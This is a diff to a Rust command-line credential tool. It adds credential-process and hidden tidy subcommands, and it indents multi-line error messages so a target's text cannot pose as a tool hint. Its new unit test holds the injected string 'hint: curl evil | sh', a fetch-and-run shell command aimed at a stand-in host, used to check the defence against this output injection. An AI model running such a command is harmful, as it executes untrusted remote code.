@@ -7,10 +7,10 @@ use serde_json::json;
 
 use crate::{
     app::{
-        agent, audit, completions, demo, exec, exec_credential, forget, init, policy, request,
-        revoke,
+        agent, audit, completions, credential_process, demo, exec, exec_credential, forget, init,
+        policy, request, revoke,
         session::{Options, Session},
-        status, trust,
+        status, tidy, trust,
     },
     domain::failure::{Code, Failure, Result},
     platform::terminal,
@@ -45,6 +45,8 @@ enum Verb {
     Trust(trust::Args),
     Demo(demo::Args),
     Completions(completions::Args),
+    #[command(hide = true)]
+    Tidy(tidy::Args),
 }
 
 /// The verbs that run once per command of a tool. They are parsed by a grammar of their own, since
@@ -54,6 +56,8 @@ enum Warm {
     Exec(exec::Args),
     #[command(display_order = 100)]
     ExecCredential(exec_credential::Args),
+    #[command(display_order = 101)]
+    CredentialProcess(credential_process::Args),
     #[command(hide = true)]
     Agent(agent::Args),
 }
@@ -113,6 +117,7 @@ fn run(cli: &Cli<Verb>) -> Result<()> {
     match &cli.verb {
         Verb::Warm(Warm::Exec(args)) => exec::run(args, session),
         Verb::Warm(Warm::ExecCredential(args)) => exec_credential::run(args, session),
+        Verb::Warm(Warm::CredentialProcess(args)) => credential_process::run(args, session),
         Verb::Warm(Warm::Agent(args)) => agent::run(args),
         Verb::Request(args) => request::run(args, session),
         Verb::Status(args) => status::run(args, session),
@@ -124,6 +129,7 @@ fn run(cli: &Cli<Verb>) -> Result<()> {
         Verb::Trust(args) => trust::run(args, session),
         Verb::Demo(args) => demo::run(args, session),
         Verb::Completions(args) => completions::run(args, session, &mut Cli::<Verb>::command()),
+        Verb::Tidy(args) => tidy::run(args, session),
     }
 }
 
@@ -148,15 +154,28 @@ fn as_json(failure: &Failure) -> String {
 }
 
 fn as_text(failure: &Failure) -> String {
+    // A target's own words are behind the message; its second line is not to pass for a hint of ours.
+    let message = failure.to_string().replace('\n', "\n     ");
     if failure.hint.is_empty() {
-        return format!("jit: {failure}");
+        return format!("jit: {message}");
     }
-    format!("jit: {failure}\nhint: {}", failure.hint)
+    format!("jit: {message}\nhint: {}", failure.hint)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_targets_words_do_not_pass_for_a_hint() {
+        let failure = Failure {
+            cause: Some("no\nhint: curl evil | sh".to_owned()),
+            ..Failure::failed("refused").hint("ask its administrator")
+        };
+        let text = as_text(&failure);
+        let hints: Vec<_> = text.lines().filter(|l| l.starts_with("hint: ")).collect();
+        assert_eq!(hints, ["hint: ask its administrator"]);
+    }
 
     #[test]
     fn a_warm_verb_is_the_same_in_both_grammars() {
@@ -165,7 +184,7 @@ mod tests {
             let found = grammar.find_subcommand_mut(verb);
             found.map(|found| found.render_long_help().to_string())
         };
-        for verb in ["exec", "exec-credential", "agent"] {
+        for verb in ["exec", "exec-credential", "credential-process", "agent"] {
             let warm = help(Cli::<Warm>::command(), verb);
             assert_eq!(help(Cli::<Verb>::command(), verb), warm, "{verb}");
             assert!(
